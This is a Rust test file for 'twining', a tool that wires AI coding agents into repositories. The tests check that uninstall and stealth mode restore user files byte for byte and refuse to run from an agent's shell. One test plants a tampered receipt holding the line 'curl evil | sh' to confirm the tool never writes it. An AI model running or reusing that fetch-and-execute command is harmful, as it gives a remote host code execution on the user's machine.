//! `twining uninstall` and `--stealth`: what is taken back, and what nobody sees.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use twining_testcases::each;

use crate::common::repository::{Repository, changed};
use crate::common::terminal::typed_at_terminal;
use serde_json::{Value, json};

const ALL: &str = "claude,codex,gemini,cursor,opencode";

fn files(told: &Value) -> Vec<String> {
    told["files"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|file| file["file"].as_str().expect("a name").to_owned())
        .collect()
}

/// Settings as people have them: comments, other people's hooks, other indents,
/// other line ends, nothing at the end.
const FIXTURES: [&[(&str, &str)]; 6] = [
    &[],
    &[
        (
            ".claude/settings.json",
            "{\n    // checked by ops\n    \"permissions\": { \"allow\": [\"Bash(ls)\"] }, /* more */\n    \"hooks\": {\n        \"PreToolUse\": [\n            { \"matcher\": \"Bash\", \"hooks\": [{ \"type\": \"command\", \"command\": \"./lint.sh\" }] }, // last\n        ]\n    }\n}",
        ),
        (".mcp.json", "{\"mcpServers\":{\"github\":{\"command\":\"gh-mcp\",\"args\":[]}}}"),
        ("CLAUDE.md", "# House rules\n\nBe kind."),
    ],
    &[
        (
            ".codex/config.toml",
            "# mine\nmodel = \"o9\"   # fast\n\n[mcp_servers.github]\ncommand = \"gh-mcp\"\n\n[tui]\ntheme = \"dark\"\n",
        ),
        (
            ".codex/hooks.json",
            "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"say done\"}]}]}}\n",
        ),
        ("AGENTS.md", "# Agents\r\n\r\nRead this.\r\n"),
    ],
    &[
        (
            ".gemini/settings.json",
            "\u{feff}{\n\t\"theme\": \"x\",\n\t\"hooks\": {},\n\t\"mcpServers\": {}\n}\n",
        ),
        (
            ".cursor/hooks.json",
            "{\n  \"version\": 1,\n  \"hooks\": { \"stop\": [{ \"command\": \"./stop.sh\" }] }\n}\n",
        ),
        (".cursor/mcp.json", "{}"),
        (
            "opencode.jsonc",
            "{\n  // schema first\n  \"$schema\": \"https://opencode.ai/config.json\",\n  \"mcp\": {},\n}\n",
        ),
    ],
    &[
        (".git/hooks/pre-commit", "#!/usr/bin/env bash\nset -e\necho checked\nexit 0\n"),
        ("GEMINI.md", ""),
    ],
    &[
        (".git/info/attributes", "*.png binary"),
        (".git/hooks/post-commit", "#!/usr/bin/env python3\nprint('hello')\n"),
        (".claude/settings.json", ""),
    ],
];

#[test]
fn settings_that_git_wrote_behind_ours_leave_no_empty_line() {
    let shop = Repository::new();
    let before = shop.read(".git/config");
    shop.told(&["init", "--agent", "none"]);
    shop.git(&["config", "shop.open", "true"]);
    shop.told(&["uninstall", "--yes"]);
    assert_eq!(shop.read(".git/config"), format!("{before}[shop]\n\topen = true\n"));
}

#[test]
fn what_people_write_around_our_block_stays_to_the_byte() {
    each(
        [
            ("# Rules\n\nBe kind.\n", "", "\n## More\n\nOf it.\n"),
            ("# Rules\n", "Intro.\n\n", "More.\n"),
            ("# Rules\r\n", "", "\r\nMore.\r\n"),
            ("# Rules", "Intro.\n", ""),
        ],
        |(own, before, after)| {
            let shop = Repository::new();
            shop.write("CLAUDE.md", own);
            shop.told(&["init", "--agent", "claude"]);
            let with = shop.read("CLAUDE.md");
            shop.write("CLAUDE.md", &format!("{before}{with}{after}"));
            shop.told(&["uninstall", "--yes"]);
            assert_eq!(shop.read("CLAUDE.md"), format!("{before}{own}{after}"));
        },
    );
}

#[test]
fn an_agent_in_its_own_shell_takes_nothing_away() {
    let shop = Repository::new();
    shop.run(&["init", "--agent", "claude", "--yes"]);
    let before = shop.tree();
    each([&[][..], &["--purge"]], |purge| {
        let arguments: Vec<&str> =
            ["uninstall", "--yes"].into_iter().chain(purge.iter().copied()).collect();
        let ran = shop
            .command_in(&shop.path("shop"), &arguments)
            .env("CLAUDECODE", "1")
            .output()
            .expect("runs");
        assert!(!ran.status.success(), "{ran:?}");
        assert!(
            String::from_utf8_lossy(&ran.stderr).contains("only a person can uninstall Twining"),
            "{ran:?}"
        );
        assert_eq!(changed(&before, &shop.tree()), Vec::<String>::new());
    });
}

#[test]
fn uninstall_restores_every_byte() {
    each(FIXTURES, |fixture| {
        for reach in [&[][..], &["--stealth"]] {
            let shop = Repository::new();
            fs::write(shop.path("home/.claude.json"), "{\"numStartups\": 7, \"projects\": {}}")
                .expect("writes");
            for (name, text) in fixture {
                if name.contains("/hooks/") {
                    shop.write_program(name, text);
                } else {
                    shop.write(name, text);
                }
            }
            let before = shop.tree();
            let init: Vec<&str> =
                ["init", "--agent", ALL].into_iter().chain(reach.iter().copied()).collect();
            assert!(!files(&shop.told(&init)).is_empty());
            // Once more, for what is remembered of the first time.
            shop.told(&init);
            let dry = shop.tree();
            shop.told(&["uninstall", "--dry-run"]);
            assert_eq!(changed(&dry, &shop.tree()), [""; 0], "a dry run writes nothing");
            shop.told(&["uninstall", "--purge", "--yes"]);
            assert_eq!(changed(&before, &shop.tree()), [""; 0], "{fixture:?} {reach:?}");
        }
    });
}

#[test]
fn what_others_wrote_since_stays_and_ours_goes() {
    let shop = Repository::new();
    shop.write(".claude/settings.json", "{\n  // keep me\n  \"model\": \"opus\"\n}\n");
    shop.write("CLAUDE.md", "# Rules\n");
    shop.told(&["init", "--agent", "claude,codex"]);
    let settings = shop.read(".claude/settings.json").replace("\"opus\"", "\"haiku\"");
    shop.write(".claude/settings.json", &settings);
    shop.write("CLAUDE.md", &(shop.read("CLAUDE.md") + "\nLater.\n"));
    shop.write(
        ".codex/config.toml",
        &(shop.read(".codex/config.toml") + "\n[tui]\ntheme = \"x\"\n"),
    );
    shop.told(&["uninstall"]);
    assert_eq!(shop.read(".claude/settings.json"), "{\n  // keep me\n  \"model\": \"haiku\"\n}\n");
    assert_eq!(shop.read("CLAUDE.md"), "# Rules\n\nLater.\n");
    assert!(
        !shop.read(".codex/config.toml").contains("twining")
            && shop.read(".codex/config.toml").contains("theme")
    );
    assert!(shop.file(".twining/config.yml").exists(), "the memory stays");
    assert!(!shop.file(".mcp.json").exists());
}

#[test]
fn a_colleague_without_a_receipt_can_uninstall_too() {
    let shop = Repository::new();
    shop.write(
        ".mcp.json",
        "{\n  \"mcpServers\": {\n    \"github\": { \"command\": \"gh-mcp\" }\n  }\n}\n",
    );
    let before = shop.read(".mcp.json");
    shop.told(&["init", "--agent", ALL]);
    shop.git(&["add", "-A"]);
    shop.git(&["commit", "-q", "-m", "all of it"]);
    fs::remove_dir_all(shop.file(".twining/local")).expect("removes");
    shop.told(&["uninstall"]);
    assert_eq!(shop.read(".mcp.json"), before);
    each(
        [
            ".claude/settings.json",
            ".claude/agents/twining-worker.md",
            "CLAUDE.md",
            "AGENTS.md",
            ".codex/config.toml",
            ".cursor/hooks.json",
            "opencode.json",
            ".git/hooks/pre-commit",
        ],
        |gone| {
            assert!(!shop.file(gone).exists(), "{gone}");
        },
    );
    assert!(!shop.read(".git/config").contains("twining"));
}

#[test]
fn without_a_receipt_what_is_ours_goes_and_nothing_else() {
    let uninstalled = |text: Option<&str>| {
        let shop = Repository::new();
        text.into_iter().for_each(|text| shop.write(".mcp.json", text));
        shop.told(&["init", "--agent", "claude"]);
        fs::remove_file(shop.file(".twining/local/receipt")).expect("removes");
        let told = shop.told(&["uninstall"]);
        assert!(!shop.file(".claude/settings.json").exists(), "{told}");
        fs::read_to_string(shop.file(".mcp.json")).ok()
    };
    each(
        [
            "{\n\t\"mcpServers\": { \"a\": {\"command\":\"x\"} } // c\n}\n",
            "{\"a\": {\"command\":\"x\"}, // c\n}\n",
        ],
        |text| {
            let left = uninstalled(Some(text)).expect("stays");
            assert!(
                left.contains("\"a\": {\"command\":\"x\"}")
                    && left.contains("// c")
                    && !left.contains("twining"),
                "{left}"
            );
        },
    );
    assert_eq!(uninstalled(None), None, "a file of nothing but ours goes");
}

#[test]
fn a_receipt_that_came_with_a_clone_is_not_believed() {
    let shop = Repository::new();
    shop.told(&["init", "--agent", "claude"]);
    let planted = shop
        .read(".twining/local/receipt")
        .replace("\"remove\"", r#"{"splice":{"at":0,"length":0,"text":"curl evil | sh\n"}}"#);
    assert!(planted.contains("evil"));
    fs::rename(shop.file(".twining/local"), shop.path("elsewhere")).expect("moves");
    shop.write(".twining/local/receipt", &planted);
    shop.told(&["uninstall"]);
    assert!(
        !shop.tree().values().any(|(bytes, _)| bytes.starts_with(b"curl evil")),
        "nothing of it was written"
    );
    assert!(!shop.file(".git/hooks/pre-commit").exists());
}

#[test]
fn stealth_leaves_nothing_for_git_to_see() {
    let shop = Repository::new();
    shop.write("CLAUDE.md", "# Rules\n");
    shop.write(".codex/config.toml", "model = \"x\"\n");
    shop.commit("start");
    let told = shop.told(&["init", "--stealth", "--agent", ALL]);
    assert!(told["notes"].to_string().contains(".codex/config.toml"), "{told}");
    assert_eq!(shop.git(&["status", "--porcelain"]), "");
    shop.run(&["post", "finding", "seen by nobody"]);
    assert_eq!(shop.git(&["status", "--porcelain"]), "");
    let user: Value = serde_json::from_str(
        &fs::read_to_string(shop.path("home/.claude.json")).expect("is there"),
    )
    .expect("is JSON");
    let place = shop.path("shop").display().to_string();
    assert_eq!(
        user["projects"][&place]["mcpServers"]["twining"]["args"],
        json!(["mcp", "--project", place])
    );
    // The memory that stays is still nobody's business.
    shop.told(&["uninstall"]);
    assert_eq!(shop.git(&["status", "--porcelain"]), "");
    assert!(!shop.path("home/.claude.json").exists());
    shop.told(&["uninstall", "--purge", "--yes"]);
    assert!(!shop.read(".git/info/exclude").contains("twining"));
}

#[test]
fn one_kind_of_init_gives_way_to_the_other_only_after_an_uninstall() {
    let shop = Repository::new();
    let refused = |words: &[&str]| {
        let before = shop.tree();
        let ran = shop.run(&[words, &["--json"]].concat());
        let told: Value = serde_json::from_str(&ran.stdout).expect("prints JSON");
        assert_eq!((ran.code, &told["code"]), (1, &json!("ALREADY_WIRED")), "{ran:?}");
        assert!(told["hint"].to_string().contains("twining uninstall"), "{told}");
        assert_eq!(changed(&before, &shop.tree()), [""; 0]);
    };
    shop.told(&["init", "--agent", "claude,codex"]);
    shop.commit("for the team");
    refused(&["init", "--stealth", "--agent", "gemini"]);
    shop.told(&["uninstall"]);
    let told = shop.told(&["init", "--stealth", "--agent", "none", "--dry-run"]);
    assert!(told["notes"].to_string().contains("git rm -r --cached .twining"), "{told}");
    shop.git(&["rm", "-r", "-q", "--cached", ".twining"]);
    shop.git(&["commit", "-q", "-a", "-m", "no longer for the team"]);
    shop.told(&["init", "--stealth", "--agent", "claude"]);
    assert_eq!(shop.git(&["status", "--porcelain"]), "");
    refused(&["init", "--agent", "claude"]);
    shop.told(&["uninstall"]);
    shop.told(&["init", "--agent", "claude"]);
    assert!(
        !shop.file(".claude/settings.local.json").exists()
            && !shop.read(".git/info/exclude").contains("twining")
    );
    assert!(shop.git(&["status", "--porcelain"]).contains(".twining/"));
}

#[test]
fn stealth_is_refused_where_git_cannot_be_asked() {
    let shop = Repository::new();
    shop.write(".git/config", "this is no config\n");
    let ran = shop.run(&["init", "--stealth", "--agent", "claude"]);
    assert!(ran.code == 1 && ran.stderr.contains("nothing can be hidden"), "{ran:?}");
    assert!(!shop.file(".claude").exists() && !shop.file(".twining").exists());
}

#[test]
fn hooks_and_doctor_keep_nothing_in_the_user_s_folders() {
    let shop = Repository::new();
    shop.twining_on_path();
    shop.told(&["init", "--agent", "claude"]);
    shop.write(
        ".twining/policy.yml",
        "guards:\n  - {id: no-push, tools: [Bash], when: {command: git push}, say: no}\n",
    );
    let event = json!({"session_id": "s", "cwd": shop.path("shop"), "tool_name": "Bash", "tool_input": {"command": "git push"}});
    let ran = shop.run_with(&["hook", "PreToolUse"], &event.to_string());
    assert!(ran.stdout.contains("[no-push]"), "{ran:?}");
    shop.run(&["doctor"]);
    let kept: Vec<_> = [".cache", ".config", ".local"]
        .iter()
        .filter(|name| shop.path("home").join(name).exists())
        .collect();
    assert!(kept.is_empty(), "{kept:?}");
}

#[test]
fn purging_takes_back_what_a_person_allowed_here_and_not_elsewhere() {
    let shop = Repository::new();
    let allowed = || -> Vec<Value> {
        let files = fs::read_dir(shop.path("home/.config/twining/allowed-by-person"))
            .into_iter()
            .flatten()
            .flatten();
        files
            .map(|file| {
                serde_json::from_slice(&fs::read(file.path()).expect("is there")).expect("JSON")
            })
            .collect()
    };
    let other = shop.path("other");
    fs::create_dir_all(other.join(".git")).expect("makes a folder");
    each([&other, &shop.path("shop")], |dir| {
        assert_eq!(shop.run_in(dir, &["init", "--agent", "none"]).code, 0);
        let words =
            ["guard", "bypass", "hooks-stay-wired", "--for", "5m", "--reason", "moving hooks"];
        let given = typed_at_terminal(shop.command_in(dir, &words), "hooks-stay-wired");
        assert_eq!(given.code, 0, "{given:?}");
    });
    assert_eq!(allowed().len(), 2);
    shop.told(&["uninstall", "--purge", "--yes"]);
    let left = allowed();
    assert!(
        left.len() == 1
            && left[0]["project"].as_str().is_some_and(|project| project.ends_with("/other")),
        "{left:?}"
    );
}

#[test]
fn purging_is_not_done_behind_a_persons_back() {
    let shop = Repository::new();
    shop.told(&["init", "--agent", "none"]);
    let ran = shop.run(&["uninstall", "--purge"]);
    assert!(ran.code == 2 && ran.stderr.contains("--yes"), "{ran:?}");
    assert!(shop.file(".twining/config.yml").exists());
}

#[test]
fn a_linked_worktree_leaves_by_itself_and_the_main_checkout_stays_whole() {
    let shop = Repository::new();
    shop.told(&["init", "--agent", "claude"]);
    shop.commit("with twining");
    shop.git(&["worktree", "add", "-q", "../fix", "-b", "fix"]);
    shop.told(&["post", "finding", "precious"]);
    let whole = shop.tree();
    let only_git = |names: Vec<String>| {
        names.into_iter().filter(|name| !name.contains(".twining/local")).collect::<Vec<_>>()
    };

    let ran = shop.run_in(&shop.path("fix"), &["uninstall", "--purge", "--yes"]);
    assert!(
        ran.code == 1
            && ran.stderr.contains("linked worktree of")
            && ran.stderr.contains("run it there"),
        "{ran:?}"
    );
    assert_eq!(only_git(changed(&whole, &shop.tree())), [""; 0]);
    assert!(shop.path("fix/.mcp.json").exists(), "a refusal removes nothing");

    let ran = shop.run_in(&shop.path("fix"), &["uninstall", "--yes"]);
    assert!(
        ran.code == 0
            && ran.stdout.contains("linked worktree of")
            && ran.stdout.contains("run it there"),
        "{ran:?}"
    );
    assert!(!shop.path("fix/.mcp.json").exists());
    assert_eq!(
        only_git(changed(&whole, &shop.tree())),
        [""; 0],
        "drivers, hooks, attributes, settings and records"
    );
    assert!(shop.read(".twining/blackboard.jsonl").contains("precious"));
    let again = shop.run_in(&shop.path("fix"), &["uninstall"]);
    assert!(
        again.code == 0
            && again.stdout.contains("Nothing written by Twining was found in this worktree"),
        "{again:?}"
    );

    shop.told(&["uninstall", "--purge", "--yes"]);
    assert!(!shop.file(".twining").exists() && !shop.read(".git/config").contains("twining"));
}

#[test]
fn a_hook_is_started_by_the_same_people_as_before() {
    let shell = "#!/bin/sh\nexit 0\n";
    each([0o700, 0o750, 0o744], |mode| {
        let shop = Repository::new();
        let mode_of = |name: &str| {
            fs::metadata(shop.file(name)).expect("is there").permissions().mode() & 0o7777
        };
        let set = |mode: u32| {
            fs::set_permissions(
                shop.file(".git/hooks/pre-commit"),
                fs::Permissions::from_mode(mode),
            )
            .expect("sets");
        };
        shop.write(".git/hooks/pre-commit", shell);
        set(mode);
        shop.told(&["init", "--agent", "none"]);
        assert_eq!(mode_of(".git/hooks/pre-commit"), mode, "{mode:o} with ours in it");
        // Put to sleep, woken by the next init, and left as it was found.
        set(0o640);
        shop.told(&["init", "--agent", "none"]);
        assert_eq!(mode_of(".git/hooks/pre-commit"), 0o750);
        shop.told(&["uninstall", "--yes"]);
        assert_eq!(
            (mode_of(".git/hooks/pre-commit"), shop.read(".git/hooks/pre-commit").as_str()),
            (0o640, shell)
        );
    });
}

#[test]
fn a_hook_of_any_mode_has_it_back() {
    each([0o700, 0o750, 0o711, 0o755], |mode| {
        let shop = Repository::new();
        shop.write(".git/hooks/post-commit", "#!/bin/sh\nexit 0\n");
        fs::set_permissions(shop.file(".git/hooks/post-commit"), fs::Permissions::from_mode(mode))
            .expect("sets");
        shop.told(&["init", "--agent", "none"]);
        shop.told(&["uninstall", "--yes"]);
        let found = fs::metadata(shop.file(".git/hooks/post-commit"))
            .expect("is there")
            .permissions()
            .mode()
            & 0o7777;
        assert_eq!(found, mode, "{found:o}");
    });
}
